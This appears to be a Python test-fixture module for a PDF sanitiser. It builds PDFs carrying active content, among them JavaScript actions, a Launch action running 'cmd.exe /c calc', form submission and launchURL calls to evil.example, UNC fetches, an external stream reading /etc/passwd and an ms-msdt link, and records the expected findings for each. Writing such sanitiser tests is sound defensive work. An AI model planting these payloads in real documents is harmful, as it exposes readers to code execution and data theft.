"""Files with something in them that acts: it must be gone, and the page must stay. Each with the notes it earns."""

from collections.abc import Callable
from typing import Any

from pikepdf import Array, Dictionary, Name, NameTree, Object, Pdf

from tests.unit.files.pdfs import add_annotation, annotated, changed, document, embedded, javascript, one_page, written

LAUNCH = Dictionary(S=Name.Launch, F="cmd.exe", Win=Dictionary(F="cmd.exe", P="/c calc"))
SUBMIT = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F="http://evil.example/"), Flags=4)


def in_root(**entries: Any) -> bytes:
    def change(pdf: Pdf) -> None:
        for key, value in entries.items():
            pdf.Root["/" + key] = value

    return changed(change)


def in_page(**entries: Any) -> bytes:
    def change(pdf: Pdf) -> None:
        for key, value in entries.items():
            pdf.pages[0].obj["/" + key] = value

    return changed(change)


def names_tree(name: str, value: Callable[[Pdf], Object]) -> bytes:
    def change(pdf: Pdf) -> None:
        tree = NameTree.new(pdf)
        tree["first"] = value(pdf)
        pdf.Root.Names = Dictionary({"/" + name: tree.obj})

    return changed(change)


def field(**entries: Any) -> bytes:
    """A text field that is filled in, with its looks."""

    def change(pdf: Pdf) -> None:
        looks = pdf.make_stream(b"/Tx BMC BT /F1 12 Tf 2 5 Td (Feldinhalt) Tj ET EMC")
        font = pdf.pages[0].obj.Resources.Font
        looks.stream_dict.update(
            Dictionary(
                Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 228, 40]), Resources=Dictionary(Font=font)
            )
        )
        one = add_annotation(
            pdf,
            "Widget",
            FT=Name.Tx,
            T="name",
            V="Feldinhalt",
            DA="/F1 12 Tf 0 g",
            F=4,
            AP=Dictionary(N=looks),
            **entries,
        )
        pdf.Root.AcroForm = Dictionary(Fields=Array([one]), DA="/F1 12 Tf 0 g", DR=Dictionary(Font=font))

    return changed(change)


def file_on_page() -> bytes:
    pdf = document()
    add_annotation(pdf, "FileAttachment", FS=embedded(pdf))
    return written(pdf)


def attached_to_page() -> bytes:
    pdf = document()
    pdf.pages[0].obj.AF = Array([pdf.make_indirect(embedded(pdf))])
    return written(pdf)


def rich_media(kind: str) -> bytes:
    pdf = document()
    asset = pdf.make_indirect(embedded(pdf, b"FWS"))
    content = Dictionary(Assets=Dictionary(Names=Array(["a.swf", asset])), Configurations=Array([]))
    add_annotation(pdf, kind, RichMediaContent=content, RichMediaSettings=Dictionary())
    return written(pdf)


def three_d() -> bytes:
    pdf = document()
    add_annotation(
        pdf, "3D", **{"3DD": pdf.make_stream(b"U3D", Type=Name("/3D"), OnInstantiate=pdf.make_stream(b"evil()"))}
    )
    return written(pdf)


def sound() -> bytes:
    pdf = document()
    clip = pdf.make_stream(b"\0\1" * 50, Type=Name.Sound, R=8000)
    add_annotation(pdf, "Sound", Sound=clip)
    add_annotation(pdf, "Link", A=Dictionary(S=Name.Sound, Sound=clip))
    return written(pdf)


def rendition() -> bytes:
    pdf = document()
    media = Dictionary(S=Name.MR, C=Dictionary(S=Name.MCD, D=pdf.make_indirect(embedded(pdf))))
    add_annotation(pdf, "Screen", A=Dictionary(S=Name.Rendition, OP=0, R=media, JS="evil()"))
    return written(pdf)


def static_xfa() -> bytes:
    def change(pdf: Pdf) -> None:
        template = pdf.make_stream(b"<template><script>evil()</script></template>")
        pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Array(["template", template]))

    return changed(change)


def chained() -> bytes:
    """A harmless action first, and on it what is not."""
    action = Dictionary(
        S=Name.GoTo, D="nowhere", Next=Dictionary(S=Name.Named, N=Name.Print, Next=Array([javascript()]))
    )
    return in_root(OpenAction=action)


def in_outline() -> bytes:
    def change(pdf: Pdf) -> None:
        item = pdf.make_indirect(Dictionary(Title="Kapitel", A=javascript()))
        outline = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
        item.Parent = outline
        pdf.Root.Outlines = outline

    return changed(change)


def in_form_xobject() -> bytes:
    """A page in the page that takes another file's, prints by a program, and has metadata and private data."""

    def change(pdf: Pdf) -> None:
        inner = pdf.make_stream(b"0 0 10 10 re f")
        inner.stream_dict.update(
            Dictionary(Subtype=Name.Form, BBox=Array([0, 0, 10, 10]), PieceInfo=Dictionary(X=javascript()))
        )
        inner.Ref = Dictionary(F="other.pdf", Page=0)
        inner.OPI = Dictionary(F="evil.eps")
        printer = pdf.make_stream(b"systemdict /quit get exec", Subtype=Name.PS)
        page = pdf.pages[0].obj
        page.Resources.XObject = Dictionary(X=inner, P=printer)
        page.Contents = Array([page.Contents, pdf.make_stream(b"q /X Do Q")])

    return changed(change)


def outer_stream() -> bytes:
    """A picture whose data is in another file."""

    def change(pdf: Pdf) -> None:
        picture = pdf.make_stream(b"\xff" * 3, Subtype=Name.Image, Width=1, Height=1, ColorSpace=Name.DeviceRGB)
        picture.stream_dict.update(Dictionary(BitsPerComponent=8, F="file:///etc/passwd", FFilter=Name.FlateDecode))
        pdf.pages[0].obj.Resources.XObject = Dictionary(X=picture)

    return changed(change)


def in_structure() -> bytes:
    """Hidden where screen readers look."""

    def change(pdf: Pdf) -> None:
        tree = Dictionary(Type=Name.StructTreeRoot, AF=Array([embedded(pdf)]))
        tree.K = Dictionary(Type=Name.StructElem, S=Name.P, AA=javascript(), JS="evil()")
        pdf.Root.StructTreeRoot = pdf.make_indirect(tree)

    return changed(change)


def metadata() -> bytes:
    """Names of people, and a page of HTML that is easily found in the file."""

    def change(pdf: Pdf) -> None:
        pdf.docinfo["/Author"] = "Erika Mustermann"
        pdf.Root.Metadata = pdf.make_stream(
            b"<html><script>alert(1)</script></html>", Type=Name.Metadata, Subtype=Name.XML
        )

    return changed(change)


def encoded_names() -> bytes:
    action = b"/Open#41ction << /#53 /J#61vaScr#69pt /J#53 (app.alert\\(1\\)) >>"
    content = b"BT /F1 24 Tf 72 700 Td (Guten Tag Leipzig 1) Tj ET"
    font = b"/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>"
    return one_page(content, resources=font, catalogue=action)


def link(address: str) -> bytes:
    return annotated("Link", A=Dictionary(S=Name.URI, URI=address))


def indirect_script() -> bytes:
    """The program is a stream, reached by way of several objects."""

    def change(pdf: Pdf) -> None:
        code = pdf.make_stream(b"app.launchURL('http://evil.example')")
        pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=pdf.make_indirect(Name.JavaScript), JS=code))

    return changed(change)


ACTIVE: dict[str, tuple[Callable[[], bytes], set[str]]] = {
    "script on opening": (lambda: in_root(OpenAction=javascript()), {"script"}),
    "script in a stream": (indirect_script, {"script"}),
    "script in the names": (lambda: names_tree("JavaScript", lambda _: javascript()), {"script"}),
    "script on closing": (lambda: in_root(AA=Dictionary(WC=javascript(), WS=javascript())), {"script"}),
    "script on turning to a page": (lambda: in_page(AA=Dictionary(O=javascript())), {"script"}),
    "script on a link": (lambda: annotated("Link", A=javascript()), {"script"}),
    "script on passing over a link": (lambda: annotated("Link", AA=Dictionary(E=javascript())), {"script", "links"}),
    "script in a field": (lambda: field(A=javascript()), {"script", "form"}),
    "script on a key in a field": (lambda: field(AA=Dictionary(K=javascript(), F=javascript())), {"script", "form"}),
    "script in an outline": (in_outline, {"script"}),
    "script behind another action": (chained, {"script"}),
    "script under encoded names": (encoded_names, {"script"}),
    "script as an address": (lambda: link("javascript:alert(1)"), {"links"}),
    "address of a local file": (lambda: link("file:///C:/Windows/System32/calc.exe"), {"links"}),
    "address with data": (lambda: link("data:text/html,<script>alert(1)</script>"), {"links"}),
    "address of another program": (lambda: link("ms-msdt:/id PCWDiagnostic"), {"links"}),
    "address with a control character": (lambda: link("http://a.example/\r\nX: y"), {"links"}),
    "program started": (lambda: in_root(OpenAction=LAUNCH), {"action"}),
    "program started by a link": (lambda: annotated("Link", A=LAUNCH), {"action"}),
    "another file opened": (
        lambda: annotated("Link", A=Dictionary(S=Name.GoToR, F="\\\\evil.example\\a.pdf")),
        {"links"},
    ),
    "attached file opened": (
        lambda: in_root(OpenAction=Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N="a"))),
        {"links"},
    ),
    "form sent": (lambda: in_page(AA=Dictionary(O=SUBMIT)), {"action"}),
    "form sent from a field": (lambda: field(A=SUBMIT), {"action", "form"}),
    "data fetched": (
        lambda: in_root(OpenAction=Dictionary(S=Name.ImportData, F="\\\\evil.example\\a.fdf")),
        {"action"},
    ),
    "fields hidden": (lambda: annotated("Link", A=Dictionary(S=Name.Hide, T="name")), {"action"}),
    "flash film": (lambda: rich_media("RichMedia"), {"media", "embedded"}),
    "3D with a program": (three_d, {"media"}),
    "film": (lambda: annotated("Movie", Movie=Dictionary(F="film.avi"), A=True), {"media"}),
    "sound": (sound, {"media"}),
    "rendition with a program": (rendition, {"media", "script", "embedded"}),
    "attached file": (lambda: names_tree("EmbeddedFiles", embedded), {"embedded"}),
    "attached file on a page": (file_on_page, {"embedded"}),
    "associated file": (attached_to_page, {"embedded"}),
    "form with XFA": (static_xfa, {"form"}),
    "picture from another file": (outer_stream, set()),
    "page from another file": (in_form_xobject, {"script"}),
    "script in the structure": (in_structure, {"embedded", "script"}),
    "names of people and HTML": (metadata, set()),
}
"""By name: how to make it, and the notes."""
